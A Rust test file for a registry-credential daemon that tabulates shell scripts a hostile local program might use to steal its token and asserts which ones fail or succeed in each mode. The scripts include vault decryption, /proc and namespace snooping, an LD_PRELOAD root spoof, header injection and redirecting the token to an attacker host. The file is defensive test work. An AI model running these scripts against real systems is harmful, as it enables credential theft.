//! Ways of a hostile program of the user to the token, in a table. In guarded mode none leads to it, and in the user's own mode
//! exactly those that the table names. SECURITY.md says the same in words.
//!
//! Each way is a shell script that runs as the user. It has succeeded if the token is in its output or in a file of the user, if
//! the attacker's host got it, or if a write reached the registry.

mod target;

use regauth_tests::machine::Mode;

use self::target::Target;

/// A way, and whether it succeeds against a daemon of the user's own, with its vault's key in a file.
struct Way {
    name: &'static str,
    succeeds_in_user_mode: bool,
    script: &'static str,
}

const fn fails(name: &'static str, script: &'static str) -> Way {
    Way {
        name,
        succeeds_in_user_mode: false,
        script,
    }
}

const fn succeeds(name: &'static str, script: &'static str) -> Way {
    Way {
        name,
        succeeds_in_user_mode: true,
        script,
    }
}

/// Scripts get: `ctl` and `regauthd`; `get URL` through the proxy, which prints the answer; `$STATE`, the daemon's folder, and
/// `$CONFIG`, its file; `$PID`, its process; `$CORP`, a URL of the registry; `$EVIL`, a URL of the attacker's host of which no
/// other way knows; `$EVIL_CA`, its root; `$LOOT`, an empty folder; `$PLAIN`, a free port.
const WAYS: &[Way] = &[
    // Files and processes of the daemon.
    succeeds(
        "decrypt the vault with the key beside it",
        "age -d -i $STATE/vault-identity.txt $STATE/vault.age",
    ),
    succeeds(
        "link the vault and its key elsewhere",
        "ln $STATE/vault* $LOOT && age -d -i $LOOT/vault-identity.txt $LOOT/vault.age",
    ),
    succeeds(
        "have the daemon's program hand over the store",
        "regauthd --hand-over tokens",
    ),
    fails("read all files of the daemon", "grep -r '' $STATE $CONFIG"),
    fails(
        "read the credentials of services",
        "cat /run/credentials/*/* $STATE/../credentials/* /etc/credstore*/*",
    ),
    fails(
        "decrypt the sealed key",
        "systemd-creds decrypt --name=vault-identity /etc/credstore.encrypted/regauth.vault-identity -",
    ),
    fails("read the memory", "dump_memory"),
    fails(
        "read the environment and the arguments",
        "cat /proc/$PID/environ /proc/$PID/cmdline",
    ),
    fails("read the open files", "cat /proc/$PID/fd/*"),
    fails(
        "read through the daemon's root",
        "grep -r '' /proc/$PID/root$STATE /proc/$PID/cwd/vault*",
    ),
    fails("attach a debugger", "dump_memory attach"),
    fails(
        "enter the daemon's namespaces",
        "nsenter --all --target $PID cat $STATE/vault.age",
    ),
    fails(
        "become the daemon's user",
        "setpriv --reuid=61000 --clear-groups cat $STATE/vault.age; su -c 'cat $STATE/vault.age' regauth </dev/null",
    ),
    fails(
        "become root in a user namespace",
        "unshare --user --map-root-user cat $STATE/../credentials/vault-identity",
    ),
    // The control socket.
    fails("add a scope", "ctl add-scope corp $EVIL && get $EVIL"),
    fails(
        "share the token with another registry",
        "ctl add-registry thief --credential-of corp --scope $EVIL --no-verify --ca-file $EVIL_CA && get $EVIL; ctl remove-registry thief",
    ),
    fails(
        "add a scope without regauthctl",
        "ask '{\"v\":1,\"method\":\"add-scope\",\"name\":\"corp\",\"scopes\":[\"'$EVIL'\"]}' && get $EVIL",
    ),
    fails(
        "add a scope as root of a user namespace",
        "unshare --user --map-root-user $CTL add-scope corp $EVIL || ctl add-scope corp $EVIL; get $EVIL",
    ),
    fails(
        "add a scope with a regauthctl that believes to be root",
        "printf 'int geteuid(void) { return 0; } int getuid(void) { return 0; }' | cc -shared -xc -o $LOOT/root.so - && LD_PRELOAD=$LOOT/root.so $CTL add-scope corp $EVIL && get $EVIL",
    ),
    fails(
        "edit the configuration and reload",
        "sed -i '/^\\[registries.corp\\]/,/^scopes/s#^scopes = \\[#&\"'$EVIL'\", #' $CONFIG && ctl reload && get $EVIL",
    ),
    succeeds("open writes", "ctl allow corp --for 1m && write; ctl deny corp"),
    succeeds(
        "open writes in a race with a request",
        "(ctl allow corp --for 1m & write; wait; write); ctl deny corp",
    ),
    succeeds(
        "make a grant for writes",
        "write --proxy $(ctl grant --registry corp --write --for 1m --json | grep -o 'http://regauth:[^\"]*')",
    ),
    succeeds(
        "add a registry whose source is a program",
        "ctl add-registry thief --scope $EVIL --no-verify --source-command sh -c \"cp $STATE/vault* $LOOT; echo x\"; ctl remove-registry thief; age -d -i $LOOT/vault-identity.txt $LOOT/vault.age",
    ),
    fails(
        "add a registry whose source is the vault's key",
        "ctl add-registry thief --scope $EVIL --no-verify --ca-file $EVIL_CA --source file:$STATE/vault-identity.txt; get $EVIL; ctl remove-registry thief",
    ),
    fails(
        "have a secret file read as certificates",
        "ctl add-registry thief --token-stdin --scope $EVIL --ca-file $STATE/vault-identity.txt </etc/hostname; ctl remove-registry thief",
    ),
    fails(
        "move the secrets to another store",
        "ctl store move memory; ctl store move keychain; cat $STATE/*",
    ),
    fails(
        "add the registry again, for another host",
        "echo x | ctl add-registry corp --token-stdin --no-verify --scope $EVIL; get $EVIL",
    ),
    fails(
        "put a header into a token",
        "printf 'x\\r\\nX-Leak: y' | ctl rotate corp --token-stdin --no-verify",
    ),
    fails(
        "send the socket what it does not know",
        "ask '{\"v\":1,\"method\":\"export\"}'; ask '{\"v\":1,\"method\":\"show\",\"name\":\"corp\",\"token\":true}'; head -c 3000000 /dev/zero | ask_bytes",
    ),
    // Answers, events and clients' files.
    fails(
        "read every answer",
        "for verb in 'list' 'show corp' 'status' 'store' 'grants' 'metrics' 'verify' 'top --once' 'doctor'; do ctl $verb --json; done",
    ),
    fails(
        "watch while a request passes",
        "timeout 2 $CTL watch --json & sleep 0.3; get $CORP; wait",
    ),
    fails(
        "read the audit record",
        "ctl audit --limit 0 --json; ctl audit export; cat $STATE/audit/*",
    ),
    fails(
        "log everything, and read the log",
        "ctl log trace; get $CORP; ctl logs; ctl log info",
    ),
    fails(
        "set up clients, and read their files",
        "ctl setup cargo; ctl setup git; ctl setup npm; ctl setup shell; ctl env; grep -r '' .cargo .config .gitconfig .npmrc",
    ),
    fails(
        "ask the credential provider",
        "printf '{\"v\":1,\"registry\":{\"index-url\":\"'$CORP'\"},\"kind\":\"get\",\"operation\":\"read\",\"args\":[]}\\n' | cargo-credential-regauth --cargo-plugin",
    ),
    fails(
        "run a program with everything set",
        "ctl run -- env; ctl run -- sh -c 'cat /proc/self/environ /proc/$PPID/environ'",
    ),
    fails(
        "import from a file that names the registry",
        "echo \"machine localhost login x password y\" >.netrc; ctl import --dry-run --json; rm .netrc",
    ),
    // Requests.
    fails(
        "ask for the attacker's host under the registry's name",
        "get $CORP -H \"Host: evil.example\"; get ${CORP}../../evil --path-as-is; get $EVIL -H \"Host: $(echo $CORP | cut -d/ -f3)\"",
    ),
    fails(
        "print all that passes on the client's side",
        "SSLKEYLOGFILE=$LOOT/keys get $CORP --verbose --trace-ascii -",
    ),
    fails(
        "let the registry's name lead elsewhere",
        "get $CORP --resolve \"*:${EVIL_PORT}:127.0.0.1\" --connect-to \"::localhost:${EVIL_PORT}\"",
    ),
    fails(
        "write while writes are closed",
        "write; write -X POST; get $CORP -X DELETE",
    ),
    fails(
        "ask the proxy for its own port",
        "get http://127.0.0.1:${PROXY##*:}/; get https://127.0.0.1:${PROXY##*:}/",
    ),
    succeeds(
        "listen on the port of a plain registry",
        "catch $PLAIN & sleep 0.5; get http://127.0.0.1:$PLAIN/plain/x; wait",
    ),
    // What a person or the daemon will use.
    succeeds(
        "plant a control socket and wait for a token",
        "plant & sleep 0.5; typed_token | ctl rotate corp --token-stdin --no-verify; wait; unplant",
    ),
    fails(
        "start another daemon on a copy of the files",
        "cp -r $STATE $LOOT/state && sed '/^\\[registries.corp\\]/,/^scopes/s#^scopes = \\[#&\"'$EVIL'\", #' $CONFIG >$LOOT/config.toml && chmod -R go= $LOOT && other_daemon && get $EVIL --proxy $(other_ctl status --json | grep -o 'http://127[^\"]*'); other_ctl stop",
    ),
    fails(
        "replace the bundle for the clients",
        "cp $EVIL_CA $BUNDLE.new && mv $BUNDLE.new $BUNDLE; get $CORP",
    ),
    fails(
        "put links into the daemon's folders",
        "ln -s $LOOT/x $STATE/audit/0.jsonl; ln -s $LOOT/y $STATE/z; ln -s $LOOT/socket /run/regauth/x; cat $LOOT/x",
    ),
    fails(
        "put programs into the PATH",
        "mkdir bin; for name in regauthd regauthctl age git sh systemctl; do printf '#!/bin/sh\nenv; cat\n' >bin/$name; done; chmod +x bin/*; PATH=$HOME/bin:$PATH; ctl verify; get $CORP; rm -r bin",
    ),
    fails(
        "ask the buses",
        "busctl --system --no-pager list; busctl --user --no-pager tree org.freedesktop.secrets; cat $STATE/notifications.json",
    ),
    fails(
        "lend a grant to a proxy of its own",
        "timeout 2 $CTL forward --listen 127.0.0.1:0 -- sh -c 'env; curl --silent $CORP'",
    ),
    fails(
        "change the service's environment",
        "systemctl set-environment LD_PRELOAD=$LOOT/x.so; systemctl edit regauthd.service </dev/null; systemctl restart regauthd",
    ),
    // The last one, since the registry is gone after it.
    succeeds(
        "put another host behind the registry's name, and wait for a token",
        "ctl remove-registry corp && echo x | ctl add-registry corp --token-stdin --no-verify --scope $EVIL && typed_token",
    ),
];

#[test]
fn no_way_of_a_users_program_leads_to_the_token_of_a_guarded_daemon() {
    let Some(target) = Target::start(Mode::Guarded) else {
        return;
    };
    let succeeded: Vec<&str> = WAYS
        .iter()
        .filter(|way| target.falls_to(way))
        .map(|way| way.name)
        .collect();
    assert_eq!(succeeded, Vec::<&str>::new());
    target.assert_still_serves();
    target.assert_token_is_nowhere();
}

#[test]
fn exactly_the_known_ways_lead_to_the_token_of_a_daemon_of_the_users_own() {
    let Some(target) = Target::start(Mode::OwnUser) else {
        return;
    };
    let unexpected = WAYS
        .iter()
        .filter(|way| target.falls_to(way) != way.succeeds_in_user_mode);
    let unexpected: Vec<&str> = unexpected.map(|way| way.name).collect();
    assert_eq!(unexpected, Vec::<&str>::new());
}
